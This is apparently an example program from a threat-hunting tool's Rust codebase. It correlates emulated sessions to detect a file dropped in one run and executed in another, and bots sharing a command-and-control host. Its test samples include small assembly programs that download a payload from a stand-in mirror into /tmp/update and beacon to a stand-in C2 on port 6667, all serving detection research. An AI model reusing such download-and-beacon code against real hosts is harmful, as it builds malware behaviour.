//! Cross-session hunting (paper §10, items 3 and 6): correlate behaviour
//! *across* monitored runs — a download in one session, the execution
//! of the downloaded file in another, and two bots sharing a
//! command-and-control host — and then the full fleet correlator: the
//! coordinated twelve-session campaign whose members are individually
//! (near-) silent and only damn each other in aggregate. Every session
//! reaches the others through its digest and a `Correlator`.
//!
//! Run with `cargo run --example cross_session`.

use hth::emukernel::{Endpoint, Peer};
use hth::hth_core::{digest_session, CorrelateConfig, Correlator};
use hth::hth_workloads::coordinated;
use hth::{Session, SessionConfig};

/// Fetches 8 bytes from a hardcoded mirror and stores them in
/// `/tmp/update`: downloaded (socket-tainted) bytes landing on disk,
/// which is what a digest records as a drop.
const DOWNLOADER: &str = r#"
_start:
    mov eax, 102        ; socket()
    mov ebx, 1
    mov ecx, sockargs
    int 0x80
    mov edi, eax
    mov [connargs], edi
    mov eax, 102        ; connect to the mirror
    mov ebx, 3
    mov ecx, connargs
    int 0x80
    mov [recvargs], edi
    mov eax, 102        ; recv the payload
    mov ebx, 10
    mov ecx, recvargs
    int 0x80
    mov eax, 5          ; open("/tmp/update", O_CREAT|O_WRONLY)
    mov ebx, path
    mov ecx, 0x41
    int 0x80
    mov esi, eax
    mov eax, 4          ; write the payload
    mov ebx, esi
    mov ecx, 0x09000000
    mov edx, 8
    int 0x80
    mov eax, 1
    mov ebx, 0
    int 0x80
.data
path:     .asciz "/tmp/update"
sockargs: .long 2, 1, 0
addr:     .word 2
port:     .word 80
ip:       .long 0x0a0000aa
connargs: .long 0, addr, 8
recvargs: .long 0, 0x09000000, 8, 0
"#;

const LAUNCHER: &str = r"
_start:
    mov ebp, esp
    mov ebx, [ebp+8]    ; argv[1] — the user names the file!
    mov eax, 11         ; execve
    int 0x80
    hlt
";

const BOT: &str = r"
_start:
    mov eax, 102
    mov ebx, 1
    mov ecx, sockargs
    int 0x80
    mov esi, eax
    mov [connargs], esi
    mov eax, 102        ; beacon to the hardcoded C2
    mov ebx, 3
    mov ecx, connargs
    int 0x80
    mov eax, 1
    mov ebx, 0
    int 0x80
.data
sockargs: .long 2, 1, 0
addr:     .word 2
port:     .word 6667
ip:       .long 0x0a0000c2
connargs: .long 0, addr, 8
";

fn main() -> Result<(), Box<dyn std::error::Error>> {
    // One correlator carries what each session's digest says into the
    // sessions after it. Two distinct programs sharing a hardcoded host
    // already make a bot network here.
    let mut correlator =
        Correlator::new(CorrelateConfig { min_c2_labels: 2, ..CorrelateConfig::default() });

    // --- Session 1: the downloader fetches a payload from its mirror
    //     and plants it in /tmp/update. ---
    let mut s1 = Session::new(SessionConfig::default())?;
    s1.kernel.net.add_host("mirror.example", 0x0a00_00aa);
    s1.kernel.net.add_peer(
        Endpoint { ip: 0x0a00_00aa, port: 80 },
        Peer { on_connect: vec![b"PAYLOAD\0".to_vec()], ..Peer::default() },
    );
    s1.kernel.register_binary("/bin/downloader", DOWNLOADER, &[]);
    s1.start("/bin/downloader", &["/bin/downloader"], &[])?;
    s1.run()?;
    let digest = digest_session(1, "/bin/downloader", s1.events(), s1.warnings());
    println!("session 1: downloader ran; its digest holds {} drop(s)", digest.drops.len());
    correlator.ingest(digest);

    // --- Session 2: a different program executes the dropped file. The
    //     file name comes from the *user*, so the single-session policy
    //     is silent — only the rules armed from session 1's digest see
    //     the pattern. ---
    let mut s2 = Session::new(SessionConfig::default())?;
    correlator.arm(s2.secpert_mut())?;
    s2.kernel.register_binary("/bin/launcher", LAUNCHER, &[]);
    s2.start("/bin/launcher", &["/bin/launcher", "/tmp/update"], &[])?;
    s2.run()?;
    println!("\nsession 2: launcher executed /tmp/update");
    for warning in s2.warnings() {
        println!("  [{}] {}", warning.severity, warning.message);
    }

    // --- Sessions 3 and 4: two unrelated programs beacon to the same
    //     hardcoded host — the §10 bot-network correlation. ---
    for (sid, bot) in [(3, "/bin/bot-a"), (4, "/bin/bot-b")] {
        let mut s = Session::new(SessionConfig::default())?;
        s.kernel.net.add_host("c2.example", 0x0a00_00c2);
        s.kernel.net.add_peer(Endpoint { ip: 0x0a00_00c2, port: 6667 }, Peer::default());
        s.kernel.register_binary(bot, BOT, &[]);
        s.start(bot, &[bot], &[])?;
        s.run()?;
        correlator.ingest(digest_session(sid, bot, s.events(), s.warnings()));
    }
    println!("\nsessions 3+4: two bots beaconed");
    for warning in correlator.correlate().map_err(|e| e.to_string())?.warnings {
        println!("  [{}] {}: {}", warning.severity, warning.rule, warning.message);
    }

    // --- The fleet correlator at scale: run the coordinated campaign
    //     (4 bots sharing a C2, 4 droppers planting one artifact, 4
    //     leakers slicing exfil under every per-session threshold),
    //     digest each session, and let the correlator Secpert judge
    //     the fleet as a whole. This is what `hth fleet --correlate`
    //     does over the sharded analyst pool. ---
    let mut correlator = Correlator::new(CorrelateConfig::default());
    for (sid, scenario) in coordinated::scenarios().iter().enumerate() {
        let mut session = Session::new(SessionConfig::default())?;
        let start = (scenario.setup)(&mut session);
        let argv: Vec<&str> = start.argv.iter().map(String::as_str).collect();
        let env: Vec<(&str, &str)> =
            start.env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        session.start(start.path, &argv, &env)?;
        session.run()?;
        correlator.ingest(digest_session(
            sid as u64,
            scenario.id,
            session.events(),
            session.warnings(),
        ));
    }
    let report = correlator.correlate().map_err(|e| e.to_string())?;
    println!("\nthe campaign, correlated:");
    print!("{}", report.render());
    let c2 =
        report.warnings.iter().find(|w| w.rule == "shared_c2").expect("the campaign shares a C2");
    println!("\nthe shared_c2 causal tree (fleet-level `hth explain`):");
    if let Some(provenance) = &c2.provenance {
        print!("{}", provenance.render_tree(c2));
    }
    Ok(())
}
